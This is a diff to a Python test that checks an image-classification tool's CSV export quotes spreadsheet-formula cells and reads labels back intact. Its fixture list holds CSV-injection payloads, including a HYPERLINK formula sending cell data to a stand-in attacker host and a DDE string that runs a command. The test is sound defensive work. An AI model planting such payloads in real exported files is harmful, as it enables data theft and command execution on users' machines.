@@ -337,6 +337,7 @@ def test_a_damaged_run_is_rewritten_by_running_its_run_id_again(tmp_path, tiny_m
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
             "\t=1+1", "\r=1+1", "=1"]
 NUMBERS = ["-1", "+2.5", "-0.5e3"]  # labels that are numbers stay numbers
+QUOTED = ["'=1", "''-x"]  # text that starts with the quote itself comes back with it
 
 
 def _formula_like(text: str) -> bool:
@@ -354,8 +355,11 @@ def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted_and_come_back_as_they
     from imgclf_ray.review.ingest import parse_csv
     from imgclf_ray.review.select import batch_csv
 
+    from imgclf_ray.io.labels import _read_table
+    from imgclf_ray.spec import StorageSpec
+
     out = tmp_path / "out"
-    names = FORMULAS + NUMBERS
+    names = FORMULAS + NUMBERS + QUOTED
     commit_run(out, "n", [{"label": name, "score": 0.5} for name in names], uri_prefix="file:///data/=x")
     for args in (["export", str(out), "--to", "csv", "-o", "-"], ["labels", str(out), "--to", "csv"]):
         result = CliRunner().invoke(main, args)
@@ -364,6 +368,11 @@ def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted_and_come_back_as_they
         assert not [c for c in cells if _formula_like(c)], args
         assert {c for c in cells if c in NUMBERS} == set(NUMBERS)  # not quoted
         assert {c[1:] for c in cells if c.startswith("'")} >= set(FORMULAS)
+    # `imgclf labels --to csv` read back as a labels table (source.labels.table, --exclude-labels)
+    (tmp_path / "labels.csv").write_text(result.output)
+    back = _read_table(str(tmp_path / "labels.csv"), StorageSpec(), ("uri", "label"), "source.labels.table")
+    assert sorted(back.column("label").to_pylist()) == sorted(names)
+    assert all(u.startswith("file:///data/=x/") for u in back.column("uri").to_pylist())
     # The review batch for a reviewer without Label Studio: the reviewer copies the model's label
     # cell into `label` as the spreadsheet shows it; ingest reads the label it was.
     rows = pa.table({"image_id": [f"{i:032x}" for i in range(len(names))], "uri": [f"/a/{n}.png" for n in names],
